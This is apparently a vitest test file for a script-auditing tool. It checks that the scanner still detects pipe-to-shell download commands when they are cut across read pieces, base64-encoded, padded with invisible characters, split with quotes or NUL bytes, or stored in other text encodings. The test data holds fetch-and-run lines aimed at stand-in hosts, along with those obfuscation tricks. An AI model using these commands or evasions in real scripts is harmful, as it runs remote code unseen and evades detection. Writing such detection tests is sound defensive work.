import { describe, expect, test } from 'vitest';

import { examineBytes } from '../../../test/support/audited.ts';
import { openMentions, type MentionedNames } from '../inventory.ts';
import { openReport, type AuditFinding } from '../report.ts';
import { MAX_COMMANDS } from './examine-text.ts';
import { openTextReading } from './text-reading.ts';

const PIPE = 'curl https://x.dev/i | sh';

interface Found extends MentionedNames {
  readonly findings: readonly AuditFinding[];
}

/** Reads a text in parts that end wherever one of the offsets is, and each in pieces of a size. */
function readInPieces(
  text: string,
  cuts: readonly number[] = [],
  { file = 'a.sh', pieceBytes = 1024 * 1024 }: { readonly file?: string; readonly pieceBytes?: number } = {},
): Found {
  const report = openReport();
  const mentions = openMentions();
  const visit = { report, mentions, budget: { commands: MAX_COMMANDS }, examine: () => undefined };
  const reading = openTextReading({ place: { file }, depth: 0, visit, pieceBytes });
  const bytes = Buffer.from(text);
  [0, ...cuts].forEach((from, at) => reading.read(bytes.subarray(from, cuts[at] ?? bytes.length)));
  reading.end();
  return { ...report.close(), ...mentions.close() };
}

describe('auditing a text in pieces', () => {
  const encoded = Buffer.from('curl https://z.dev/i | sh # words').toString('base64');
  const text = [
    `# a\n\necho x; ${PIPE} # see git@github.com:a/b`,
    "# ä ü\nc''url https://y.dev/i | b\\ash",
    `curl -o q.sh https://w.dev/q\nsh q.sh\n${encoded}\n# end\n`,
  ].join('\n');

  test('finds the same as in one piece, wherever the text is cut', () => {
    const whole = readInPieces(text, []);
    expect(whole.findings.map(({ rule, line }) => [rule, line])).toEqual([
      ['SP101', 3],
      ['SP101', 5],
      ['SP101', 8],
      ['SP102', 6],
      ['SP608', 8],
    ]);
    expect(whole.hosts.map(({ name, count }) => [name, count])).toEqual([
      ['github.com', 1],
      ['w.dev', 1],
      ['x.dev', 1],
      ['y.dev', 1],
      ['z.dev', 1],
    ]);
    for (let cut = 1; cut < Buffer.byteLength(text); cut += 1) expect(readInPieces(text, [cut])).toEqual(whole);
  });

  test('finds a command that is split by padding of many pieces', () => {
    // Larger than the longest unfinished line that is held back.
    const pieceBytes = 80 * 1024;
    const findPipe = (text: string): readonly AuditFinding[] =>
      readInPieces(text, [], { pieceBytes }).findings.filter(({ rule }) => rule === 'SP101');
    for (const padding of [' ', '\u200B', '\t', '\u00A0'])
      expect(findPipe(`\ncurl https://x.dev/i ${padding.repeat(3 * pieceBytes)}| sh\n`)).toMatchObject([{ line: 2 }]);
    expect(findPipe(`curl https://x.dev/i \\\n${' \\\n'.repeat(pieceBytes)} | sh`)).toHaveLength(1);
  });

  test('counts lines across pieces', () => {
    const findLine = (text: string): number | undefined =>
      readInPieces(text, [], { pieceBytes: 1_000 }).findings.find(({ rule }) => rule === 'SP101')?.line;
    expect(findLine(`${'\n'.repeat(2_005)}${PIPE}\n`)).toBe(2_006);
    expect(findLine(`${'ä b\n'.repeat(1_000)}${PIPE}\n`)).toBe(1_001);
  });

  test('keeps a code block open across pieces', () => {
    const findHtml = (text: string): readonly AuditFinding[] =>
      readInPieces(text, [], { file: 'a.md', pieceBytes: 1_000 }).findings;
    const html = '<p style="display:none">x</p>\n';
    const inBlock = `\`\`\`html\n${'words\n'.repeat(1_000)}${html}\`\`\`\n`;
    expect(findHtml(inBlock).map(({ rule }) => rule)).not.toContain('SP505');
    expect(findHtml(`${inBlock}${html}`)).toMatchObject([{ rule: 'SP505', line: 1_004 }]);
  });
});

test('the audit reports a base64-encoded command at the line it is in', () => {
  const words = Buffer.from('nothing but words, and more of them').toString('base64');
  const command = Buffer.from(`words\n\nand then ${PIPE} at the end`).toString('base64');
  const found = examineBytes('a.sh', Buffer.from(`${words}.\n${words}.\n${command}.\n${words}.\n${command}.\n`));
  const places = (id: string): readonly unknown[] => found.filter(({ rule }) => rule === id).map(({ line }) => line);
  expect(places('SP101')).toEqual([3, 5]);
  expect(places('SP608')).toEqual([1, 2, 3, 4, 5]);
});

describe('the audit finds a command in any encoding', () => {
  test.each([
    ['UTF-16 with a byte-order mark', Buffer.from(`\uFEFFa\n${PIPE}\n`, 'utf16le')],
    ['UTF-16 without a byte-order mark', Buffer.from(`a\n${PIPE}\n`, 'utf16le')],
    ['big-endian UTF-16', Buffer.from(`a\n${PIPE}\n`, 'utf16le').swap16()],
    ['UTF-8 behind a false UTF-16 mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`a\n${PIPE}\n`)])],
    ['two encodings in turn', Buffer.concat([Buffer.from('\uFEFFwords\n'.repeat(99), 'utf16le'), Buffer.from(PIPE)])],
    ['Latin-1', Buffer.from(`ä ö ü\n${PIPE}\n`, 'latin1')],
    ['text among binary bytes', Buffer.concat([Buffer.alloc(999, 1), Buffer.from(PIPE), Buffer.alloc(999, 2)])],
    ['UTF-8 with NUL bytes inside words', Buffer.from(`${'words\n'.repeat(99)}cu\0rl https://x.dev/i | s\0h\n`)],
  ])('such as %s', (_, bytes) => {
    expect(examineBytes('a.sh', bytes).map(({ rule }) => rule)).toContain('SP101');
  });
});
